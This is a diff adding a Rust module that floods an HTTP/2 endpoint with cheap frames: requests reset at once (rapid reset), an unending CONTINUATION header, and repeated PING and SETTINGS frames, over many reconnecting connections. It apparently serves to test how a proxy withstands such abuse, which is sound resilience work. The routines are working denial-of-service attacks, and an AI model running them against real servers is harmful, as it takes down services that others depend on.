@@ -1,0 +1,113 @@
+//! Floods of HTTP/2 frames that cost the sender little.
+//!
+//! Each attacker sends batches at a fixed pace. One that is disconnected comes
+//! back, at most 20 times a second.
+
+use std::sync::Arc;
+
+use anyhow::Result;
+use tokio::io::AsyncWriteExt as _;
+use tokio::task::JoinSet;
+use tokio::time::{Duration, Instant, sleep, timeout_at};
+
+use super::Target;
+use super::frames::{self, Body};
+use super::socket::{Side, is_open};
+
+/// Requests that are paid for and reset at once.
+pub(super) async fn resets(target: &Arc<Target>, count: usize, until: Instant) -> Result<String> {
+    let authorization = target.attacker.clone();
+    flood(target, count, until, move |batch| {
+        let first = batch
+            .saturating_mul(RESETS)
+            .saturating_mul(2)
+            .saturating_add(1);
+        let ids = (first..).step_by(2).take(RESETS as usize);
+        ids.flat_map(|id| {
+            let fields = frames::get("/item", Some(&authorization));
+            let mut bytes = frames::headers(id, Body::None, &fields);
+            bytes.extend(frames::reset(id));
+            bytes
+        })
+        .collect()
+    })
+    .await
+}
+
+/// A head that never ends.
+pub(super) async fn continuation(
+    target: &Arc<Target>,
+    count: usize,
+    until: Instant,
+) -> Result<String> {
+    let filler = "x".repeat(FILLER);
+    flood(target, count, until, move |batch| match batch {
+        0 => frames::headers_begun(1, &frames::get("/item", None)),
+        _ => (0..CONTINUATIONS)
+            .flat_map(|_| frames::continuation(1, &[("x-filler", &filler)]))
+            .collect(),
+    })
+    .await
+}
+
+/// PING frames.
+pub(super) async fn pings(target: &Arc<Target>, count: usize, until: Instant) -> Result<String> {
+    flood(target, count, until, |_| frames::ping().repeat(CONTROLS)).await
+}
+
+/// SETTINGS frames.
+pub(super) async fn settings(target: &Arc<Target>, count: usize, until: Instant) -> Result<String> {
+    flood(target, count, until, |_| {
+        frames::settings(&[(frames::INITIAL_WINDOW_SIZE, 65_535)]).repeat(CONTROLS)
+    })
+    .await
+}
+
+/// Sends batch after batch on `count` connections; `batch` gets its number on its connection.
+async fn flood(
+    target: &Arc<Target>,
+    count: usize,
+    until: Instant,
+    batch: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static,
+) -> Result<String> {
+    let batch = Arc::new(batch);
+    let mut attackers = JoinSet::new();
+    for _ in 0..count {
+        let (target, batch) = (Arc::clone(target), Arc::clone(&batch));
+        attackers.spawn(async move {
+            let mut connections = 0_usize;
+            while Instant::now() < until {
+                connections = connections.saturating_add(1);
+                // It fails once the proxy has had enough.
+                let _disconnected = timeout_at(until, pour(&target, &*batch)).await;
+                sleep(BEFORE_NEXT).await;
+            }
+            connections
+        });
+    }
+    let mut connections = 0_usize;
+    while let Some(ended) = attackers.join_next().await {
+        connections = connections.saturating_add(ended?);
+    }
+    Ok(format!("{count} attackers, {connections} connections"))
+}
+
+async fn pour(target: &Target, batch: &(dyn Fn(u32) -> Vec<u8> + Send + Sync)) -> Result<()> {
+    let mut stream = Side::Attacker.connect(target.http2).await?;
+    stream.write_all(&frames::preface(&[])).await?;
+    let mut number = 0_u32;
+    while is_open(&stream) {
+        stream.write_all(&batch(number)).await?;
+        number = number.saturating_add(1);
+        sleep(PAUSE).await;
+    }
+    Ok(())
+}
+
+const RESETS: u32 = 20;
+const CONTINUATIONS: usize = 8;
+const CONTROLS: usize = 200;
+/// Below the 16 KiB that a frame may have.
+const FILLER: usize = 8 * 1024;
+const PAUSE: Duration = Duration::from_millis(10);
+const BEFORE_NEXT: Duration = Duration::from_millis(50);
